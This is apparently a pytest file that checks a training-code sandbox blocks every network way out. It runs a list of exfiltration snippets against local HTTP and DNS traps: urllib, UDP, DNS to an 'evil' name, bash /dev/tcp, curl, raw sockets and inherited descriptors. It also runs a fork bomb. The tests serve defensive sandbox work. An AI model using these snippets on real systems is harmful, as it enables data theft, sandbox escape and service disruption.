"""S4: what training code reads leaves by no way: traps for HTTP and DNS on this machine stay empty.

The attacks on files, processes, kernel and memory are in tests/contracts/test_sandbox_attacks.py;
here are the ways out, and a real fork bomb.
"""

import asyncio
import dataclasses
import socket
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from pipeline.ports.runtime import SandboxLevel
from tests.unit.runtime.bench import Bench
from tests.unit.runtime.conftest import sandbox_or_skip

pytestmark = [
    pytest.mark.anyio,
    pytest.mark.skipif(sys.platform != "linux", reason="the sandbox needs Linux"),
]
WAYS = {
    "http": "import urllib.request as u\nu.urlopen('http://127.0.0.1:TCP/?q=STOLEN', timeout=2)",
    "http of this machine's address": (
        "import http.client as h\nh.HTTPConnection('ADDRESS', TCP, timeout=2).request('GET', '/S')"
    ),
    "http, with ipv6": (
        "import socket\nsocket.create_connection(('::ffff:127.0.0.1', TCP), 2).send(b'STOLEN')"
    ),
    "a datagram": (
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.sendto(b'STOLEN', ('127.0.0.1', UDP))"
    ),
    "a question for a name": (
        "import socket, struct\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "name = b'\\x06STOLEN\\x04evil\\x00'\n"
        "s.sendto(struct.pack('>6H', 7, 256, 1, 0, 0, 0) + name + b'\\0\\1\\0\\1',"
        " ('127.0.0.1', UDP))"
    ),
    "a name by the resolver": (
        "import socket\nfor kind in (0, socket.AF_INET, socket.AF_INET6):\n"
        "    try: socket.getaddrinfo('STOLEN.evil.example', TCP, kind); print('PWNED')\n"
        "    except OSError: pass"
    ),
    "a shell": (
        "import subprocess\nsubprocess.run(['bash', '-c', 'echo STOLEN > /dev/tcp/127.0.0.1/TCP'])"
    ),
    "a program": (
        "import subprocess\nsubprocess.run(['curl', '-m', '2', 'http://127.0.0.1:TCP/STOLEN'])"
    ),
    "a child of a child": (
        "import os, sys, subprocess\nif os.fork() == 0:\n    os.setsid()\n    subprocess.run("
        "[sys.executable, '-c', \"import socket; "
        "socket.create_connection(('127.0.0.1', TCP), 2)\"])\nelse: os.wait()"
    ),
    "the kernel's own call": (
        "import ctypes, struct\nc = ctypes.CDLL(None)\nfd = c.socket(2, 1, 0)\n"
        "where = struct.pack('<H', 2) + struct.pack('>H', TCP) + bytes([127, 0, 0, 1]) + bytes(8)\n"
        "c.connect(fd, where, 16)"
    ),
    "what was left open": (
        "import os, socket\nfor fd in range(3, 256):\n"
        "    try: s = socket.socket(fileno=os.dup(fd))\n"
        "    except OSError: continue\n"
        "    print('PWNED', fd)"
    ),
    "a raw socket": (
        "import socket\nfor family, kind in ((socket.AF_INET, socket.SOCK_RAW),"
        " (socket.AF_PACKET, socket.SOCK_RAW)):\n"
        "    try: socket.socket(family, kind, socket.IPPROTO_ICMP)"
        ".sendto(b'STOLEN', ('127.0.0.1', 1))\n"
        "    except OSError: continue\n"
        "    print('PWNED')"
    ),
}
OPEN = ("http", "a datagram", "a question for a name", "a child of a child")  # without a sandbox
BOMB = """
import os
print('began', flush=True)
while True:
    try: os.fork()
    except OSError: pass
"""


class Traps:
    """An HTTP and a DNS server that only count who comes."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        self.tcp = socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", 0))  # noqa: S104 - a trap at every address
        self._threads = [threading.Thread(target=one) for one in (self._tcp, self._udp)]
        self._ended = False
        for one in (self.tcp, self.udp):
            one.settimeout(0.05)
        for thread in self._threads:
            thread.start()

    def aim(self, code: str) -> str:
        address = socket.gethostbyname(socket.gethostname())
        code = code.replace("TCP", str(self.tcp.getsockname()[1])).replace("ADDRESS", address)
        return code.replace("UDP", str(self.udp.getsockname()[1]))

    def close(self) -> None:
        self._ended = True
        for thread in self._threads:
            thread.join()
        self.tcp.close()
        self.udp.close()

    def _tcp(self) -> None:
        while not self._ended:
            try:
                caller, _ = self.tcp.accept()
            except TimeoutError:
                continue
            self.hits.append("tcp")
            caller.close()

    def _udp(self) -> None:
        while not self._ended:
            try:
                self.hits.append(f"udp {self.udp.recv(512)!r}")
            except TimeoutError:
                continue


@pytest.fixture
def traps() -> Iterator[Traps]:
    traps = Traps()
    yield traps
    traps.close()


async def tried(level: SandboxLevel, code: str, folder: Path) -> Bench:
    bench = Bench(await sandbox_or_skip(level), folder)
    bench.limits = dataclasses.replace(bench.limits, seconds=20)
    await bench.run(bench.step(f"print('began', flush=True)\n{code}"))
    return bench


@pytest.mark.parametrize("level", ["full", "partial"])
@pytest.mark.parametrize("way", WAYS)
async def test_nothing_leaves(way: str, level: SandboxLevel, tmp_path: Path, traps: Traps) -> None:
    bench = await tried(level, traps.aim(WAYS[way]), tmp_path)
    await asyncio.sleep(0.1)  # what was sent has arrived by now
    assert "began" in bench.text
    assert not [line for line in bench.lines if line.startswith("PWNED")]
    assert traps.hits == []
    assert not bench.survivors()


@pytest.mark.parametrize("way", OPEN)
async def test_without_a_sandbox_the_same_way_is_open(
    way: str, tmp_path: Path, traps: Traps
) -> None:
    await tried("limited", traps.aim(WAYS[way]), tmp_path)
    await asyncio.sleep(0.1)
    assert traps.hits


@pytest.mark.parametrize("level", ["full", "partial"])
async def test_a_fork_bomb_ends_with_its_step(level: SandboxLevel, tmp_path: Path) -> None:
    bench = Bench(await sandbox_or_skip(level), tmp_path)
    bench.limits = dataclasses.replace(bench.limits, seconds=3, processes=40)

    result = await bench.run(bench.step(BOMB))

    assert not result.ok
    assert "began" in bench.text
    assert not bench.survivors()
    after = Bench(bench.sandbox, tmp_path)
    assert (await after.run(after.step("print(1)"))).ok
